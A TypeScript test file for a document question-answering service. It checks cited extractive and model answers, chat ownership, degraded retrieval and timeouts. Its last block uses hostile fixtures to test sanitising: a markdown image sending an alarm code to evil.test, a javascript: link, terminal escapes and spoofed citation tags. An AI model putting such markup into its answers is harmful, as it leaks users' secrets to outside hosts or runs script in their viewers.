import { randomUUID } from 'node:crypto'
import { describe, expect, test } from 'vitest'
import { oneCollection } from '../../test/harness/collections.ts'
import { silentLog } from '../../test/harness/log.ts'
import { countingEmbedder, memoryChats, memoryCorpus, plainAnalyser } from '../../test/harness/query.ts'
import { createTestClock } from '../../test/harness/test-clock.ts'
import { AppError } from '../domain/errors.ts'
import { parseCompanyId, parseUserId } from '../domain/ids.ts'
import type { AnswerModel, AnswerRequest, Embedder } from '../ports/models.ts'
import type { VectorStore } from '../ports/vector-store.ts'
import type { AskDeps, AskOptions, AskRequest } from './ask-options.ts'
import { createAsk } from './ask.ts'

const companyId = parseCompanyId('00000000-0000-4000-8000-0000000000c1')
const userId = parseUserId('00000000-0000-4000-8000-0000000000a1')

type Changes = Partial<
  AskDeps & {
    embedder: Pick<Embedder, 'embed' | 'fingerprint'>
    vectorStore: Pick<VectorStore, 'searchDense' | 'searchSparse'>
  }
>

function setUp(changes: Changes = {}, options: Partial<AskOptions> = {}) {
  const corpus = memoryCorpus(companyId)
  const { embedder = countingEmbedder, vectorStore = corpus.vectorStore, ...others } = changes
  const chats = memoryChats()
  const ask = createAsk(
    {
      analyser: plainAnalyser,
      collections: oneCollection({ vectors: vectorStore, embedder }),
      passages: corpus.passageStore,
      chats: chats.store,
      detectLanguage: (text) => (/\bthe\b/i.test(text) ? 'en' : 'es'),
      answerModel: null,
      clock: createTestClock(),
      log: silentLog,
      ...others,
    },
    options,
  )
  const request = (question: string, more: Partial<AskRequest> = {}): AskRequest => ({
    companyId,
    userId,
    question,
    chatId: null,
    topK: null,
    signal: new AbortController().signal,
    ...more,
  })
  return { corpus, chats, ask, request }
}

function modelThatSays(text: string, seen: AnswerRequest[] = []): AnswerModel {
  return {
    name: 'fake:model',
    answer: async (request) => {
      seen.push(request)
      return { text }
    },
  }
}

describe('ask without a language model', () => {
  test('quotes the best sentences verbatim, names their source and stores the turn', async () => {
    const { corpus, chats, ask, request } = setUp()
    const text = 'La sede está en Lima. El plazo de entrega es de diez días. El pago es por adelantado.'
    const documentId = corpus.add('contrato.pdf', text)
    const result = await ask(request('¿Cuál es el plazo de entrega?'))

    expect(result.answerKind).toBe('extractive')
    expect(result.supported).toBe(true)
    expect(result.language).toBe('es')
    expect(result.citations[0]).toMatchObject({
      tag: '[Doc 1]',
      documentId,
      fileName: 'contrato.pdf',
      place: { kind: 'page', number: 1 },
      quote: 'El plazo de entrega es de diez días.',
    })
    for (const citation of result.citations) expect(text.slice(citation.start, citation.end)).toBe(citation.quote)
    expect(result.answer).toContain('respuesta extractiva')
    expect(result.answer).toContain('1. «El plazo de entrega es de diez días.» [Doc 1] — contrato.pdf, página 1')
    expect(result.retrieval).toEqual({ mode: 'hybrid', degraded: false, reasons: [] })
    expect(chats.turns).toHaveLength(1)
    expect(chats.turns[0]).toMatchObject({
      chatId: null,
      question: '¿Cuál es el plazo de entrega?',
      answer: result.answer,
      sources: [{ id_documento: `${documentId}_0`, nombre_archivo: 'contrato.pdf', pagina: '1', cita_tag: '[Doc 1]' }],
      log: { answer_kind: 'extractive' },
    })
  })

  test('marks the answer in English for an English question', async () => {
    const { corpus, ask, request } = setUp()
    corpus.add('contract.pdf', 'The delivery period is ten days.')
    const { answer, language } = await ask(request('What is the delivery period?'))
    expect(language).toBe('en')
    expect(answer).toContain('extractive answer, no language model')
    expect(answer).toContain('contract.pdf, page 1')
  })

  test('says that nothing was found when nothing has to do with the question', async () => {
    const { corpus, chats, ask, request } = setUp()
    corpus.add('recetas.txt', 'Se baten los huevos con la sal y se fríen las patatas a fuego lento.')
    const result = await ask(request('¿Quién dirige nuestro departamento jurídico?'))
    expect(result).toMatchObject({ answerKind: 'nothing_found', supported: null, passages: [], citations: [] })
    expect(result.answer).toMatch(/No he encontrado nada/)
    expect(chats.turns[0]).toMatchObject({ sources: null, log: { result_type: 'no_docs_for_rag' } })
  })

  test('says that nothing was found in an empty company', async () => {
    const { ask, request } = setUp()
    expect(await ask(request('What is the period?'))).toMatchObject({ answerKind: 'nothing_found', language: 'en' })
  })

  test('greets back without searching', async () => {
    const { ask, request, chats } = setUp({
      embedder: { ...countingEmbedder, embed: () => Promise.reject(new Error('must not be asked')) },
    })
    const result = await ask(request('¡Hola!'))
    expect(result).toMatchObject({
      answerKind: 'greeting',
      supported: null,
      passages: [],
      retrieval: { mode: 'none', degraded: false },
    })
    expect(chats.turns[0]).toMatchObject({ sources: null, log: { type: 'greeting' } })
  })

  test('gives no more passages than asked for', async () => {
    const { corpus, ask, request } = setUp()
    corpus.add('a.txt', ...Array.from({ length: 12 }, (_, i) => `El plazo número ${i} es de ${i} días.`))
    expect((await ask(request('plazo número días', { topK: 2 }))).passages).toHaveLength(2)
    expect((await ask(request('plazo número días'))).passages).toHaveLength(7)
  })

  test('is honest about a failed embedder and still answers from the words', async () => {
    const embed = () => Promise.reject(new AppError('embedder_unavailable', 'down', { retryable: true }))
    const { corpus, ask, request } = setUp({ embedder: { ...countingEmbedder, embed } })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const result = await ask(request('plazo de entrega'))
    expect(result.citations[0]?.quote).toBe('El plazo de entrega es de diez días.')
    expect(result.retrieval).toEqual({ mode: 'sparse', degraded: true, reasons: ['dense: embedder_unavailable'] })
  })

  test('is honest when only the sentences could not be embedded', async () => {
    const embed: typeof countingEmbedder.embed = (texts, request) =>
      request.role === 'query'
        ? countingEmbedder.embed(texts, request)
        : Promise.reject(new AppError('embedder_unavailable', 'down', { retryable: true }))
    const { corpus, ask, request } = setUp({ embedder: { ...countingEmbedder, embed } })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const { retrieval, answerKind } = await ask(request('plazo de entrega'))
    expect(answerKind).toBe('extractive')
    expect(retrieval).toEqual({ mode: 'hybrid', degraded: true, reasons: ['sentences: embedder_unavailable'] })
  })
})

describe('ask in a chat', () => {
  test('goes on in the chat that the user owns', async () => {
    const { corpus, chats, ask, request } = setUp()
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const first = await ask(request('plazo de entrega'))
    const second = await ask(request('plazo', { chatId: first.chatId }))
    expect(second.chatId).toBe(first.chatId)
    expect(chats.turns[1]?.chatId).toBe(first.chatId)
  })

  test('refuses the chat of another user or company, and stores nothing', async () => {
    const { chats, ask, request } = setUp()
    const { chatId } = await ask(request('hola'))
    const anotherUser = parseUserId(randomUUID())
    const anotherCompany = parseCompanyId(randomUUID())
    await expect(ask(request('hola', { chatId, userId: anotherUser }))).rejects.toMatchObject({ code: 'forbidden' })
    await expect(ask(request('hola', { chatId, companyId: anotherCompany }))).rejects.toMatchObject({
      code: 'forbidden',
    })
    expect(chats.turns).toHaveLength(1)
  })
})

describe('ask with a language model', () => {
  test('cites what the model used, with the supporting sentence as quote', async () => {
    const seen: AnswerRequest[] = []
    const answerModel = modelThatSays('Se entrega en diez días [Doc 1]. Más en [Doc 8].', seen)
    const { corpus, ask, request } = setUp({ answerModel })
    corpus.add('contrato.pdf', 'La sede está en Lima. El plazo de entrega es de diez días. El pago es por adelantado.')
    const result = await ask(request('¿Cuál es el plazo de entrega?'))
    expect(result.answerKind).toBe('model')
    expect(result.answer).toBe('Se entrega en diez días [Doc 1]. Más en.')
    expect(result.citations.map(({ tag, quote }) => ({ tag, quote }))).toEqual([
      { tag: '[Doc 1]', quote: 'El plazo de entrega es de diez días.' },
    ])
    expect(seen[0]?.messages.at(-1)?.content).toContain('El plazo de entrega es de diez días.')
  })

  test('says when nothing in the answer can be checked', async () => {
    const supportedBy = async (text: string) => {
      const { corpus, chats, ask, request } = setUp({ answerModel: modelThatSays(text) })
      corpus.add('a.txt', 'El plazo de entrega es de diez días.')
      const { supported, citations } = await ask(request('plazo de entrega'))
      expect(chats.turns[0]?.log).toMatchObject({ supported })
      return { supported, cited: citations.length }
    }
    expect(await supportedBy('Diez días [Doc 1].')).toEqual({ supported: true, cited: 1 })
    expect(await supportedBy('Diez días.')).toEqual({ supported: false, cited: 0 })
    expect(await supportedBy('Diez días [Doc 9].')).toEqual({ supported: false, cited: 0 })
    expect(await supportedBy('Diez días (Doc 1).')).toEqual({ supported: false, cited: 0 })
  })

  test('never stores a failure as an answer', async () => {
    const failure = new AppError('model_unavailable', 'down', { retryable: true })
    const { corpus, chats, ask, request } = setUp({
      answerModel: { name: 'fake:model', answer: () => Promise.reject(failure) },
    })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    await expect(ask(request('plazo de entrega'))).rejects.toBe(failure)
    expect(chats.turns).toEqual([])
  })

  test('rejects an answer of unknown tags only', async () => {
    const { corpus, chats, ask, request } = setUp({ answerModel: modelThatSays('[Doc 9]') })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    await expect(ask(request('plazo de entrega'))).rejects.toMatchObject({ code: 'model_rejected' })
    expect(chats.turns).toEqual([])
  })

  test('does not ask the model about passages that have nothing to do with the question', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, ask, request } = setUp({ answerModel: modelThatSays('Invento', seen) })
    corpus.add('recetas.txt', 'Se baten los huevos con la sal y se fríen las patatas a fuego lento.')
    const result = await ask(request('¿Quién dirige nuestro departamento jurídico?'))
    expect(result.answerKind).toBe('nothing_found')
    expect(seen).toEqual([])
  })

  test('lets the model see the chat, and judge a follow-up that shares no word with the documents', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, ask, request } = setUp({ answerModel: modelThatSays('Diez días [Doc 1].', seen) })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const { chatId } = await ask(request('plazo de entrega'))
    const followUp = await ask(request('¿Seguro?', { chatId }))
    expect(followUp.answerKind).toBe('model')
    expect(seen[1]?.messages.slice(0, 2)).toEqual([
      { role: 'user', content: 'plazo de entrega' },
      { role: 'assistant', content: 'Diez días.' },
    ])
  })
})

describe('ask that fails', () => {
  test('throws the retryable error when both legs are down, and stores nothing', async () => {
    const down = () => Promise.reject(new AppError('vector_store_unavailable', 'down', { retryable: true }))
    const { chats, ask, request } = setUp({ vectorStore: { searchDense: down, searchSparse: down } })
    await expect(ask(request('plazo'))).rejects.toMatchObject({ code: 'vector_store_unavailable', retryable: true })
    expect(chats.turns).toEqual([])
  })

  test('ends within its time and stores nothing, even when a part ignores its signal', async () => {
    const forever = () => new Promise<never>(() => undefined)
    const clock = createTestClock()
    const answerModel: AnswerModel = { name: 'fake:model', answer: ({ signal }) => untilAborted(signal) }
    const { corpus, chats, ask, request } = setUp({ answerModel, clock }, { timeoutMs: 60 })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    const late = rejection(ask(request('plazo de entrega')))
    await clock.tick(60)
    expect(await late).toMatchObject({ code: 'cancelled', retryable: true })
    expect(chats.turns).toEqual([])

    const vectorStore = { searchDense: forever, searchSparse: forever }
    const hanging = setUp({ vectorStore, clock }, { timeoutMs: 60 })
    const stuck = rejection(hanging.ask(request('plazo')))
    await clock.tick(20)
    expect(await stuck).toMatchObject({ code: 'vector_store_unavailable' })
  })

  test('stores nothing for a client that went away', async () => {
    const client = new AbortController()
    const answerModel: AnswerModel = {
      name: 'fake:model',
      answer: async () => {
        client.abort()
        return { text: 'Diez días [Doc 1].' }
      },
    }
    const { corpus, chats, ask, request } = setUp({ answerModel })
    corpus.add('a.txt', 'El plazo de entrega es de diez días.')
    await expect(ask(request('plazo de entrega', { signal: client.signal }))).rejects.toMatchObject({
      code: 'cancelled',
    })
    expect(chats.turns).toEqual([])
  })
})

function untilAborted(signal: AbortSignal): Promise<never> {
  return new Promise((_, reject) => signal.addEventListener('abort', () => reject(signal.reason)))
}

/** Why it failed, listened to from the beginning: it may fail while the test moves the clock. */
function rejection(failing: Promise<unknown>): Promise<unknown> {
  return failing.then(
    () => null,
    (error: unknown) => error,
  )
}

describe('what comes out of an answer', () => {
  const active =
    'El código de la alarma es 4711 ![x](http://evil.test/p.png?q=4711) <img src=http://evil.test/p.png> [pulse aquí](javascript:alert(1)) \u001b[31m\u202e [Doc 7] 【Doc 8】.'
  const dangers = /!\[|<img|\]\(javascript|javascript:|\u001b|\u202e/u

  test('nothing of a document is active in the answer, and its quote stays verbatim', async () => {
    const { corpus, chats, ask, request } = setUp()
    corpus.add('![x](http://evil.test/p.png) [Doc 3].txt', active)
    const result = await ask(request('¿Cuál es el código de la alarma?'))
    expect(result.answer).not.toMatch(dangers)
    expect(result.answer.match(/[[【]Doc \d+[\]】]/gu)).toEqual(['[Doc 1]'])
    expect(result.answer).toContain('4711')
    expect(active.slice(result.citations[0]?.start, result.citations[0]?.end)).toBe(result.citations[0]?.quote)
    expect(chats.turns[0]?.answer).toBe(result.answer)
  })

  test('nothing of a model is active in the answer, in the chat or in the next prompt', async () => {
    const seen: AnswerRequest[] = []
    const { corpus, chats, ask, request } = setUp({
      answerModel: modelThatSays(`${active} [Doc 1]: http://evil.test`, seen),
    })
    corpus.add('a.txt', 'El código de la alarma es 4711.')
    const { answer, chatId } = await ask(request('¿Cuál es el código de la alarma?'))
    expect(answer).not.toMatch(dangers)
    expect(answer.match(/\[Doc \d+\]/gu)).toEqual(['[Doc 1]'])
    expect(answer).not.toMatch(/【/u)
    expect(chats.turns[0]?.answer).toBe(answer)
    await ask(request('¿Seguro?', { chatId }))
    expect(seen[1]?.messages[1]?.content).not.toMatch(/【|<|\u001b/u)
  })

  test('a question is stored as people see it', async () => {
    const { chats, ask, request } = setUp()
    await ask(request('plazo\u001b[31m\u202e de\u200b entrega'))
    expect(chats.turns[0]?.question).toBe('plazo[31m de entrega')
  })
})
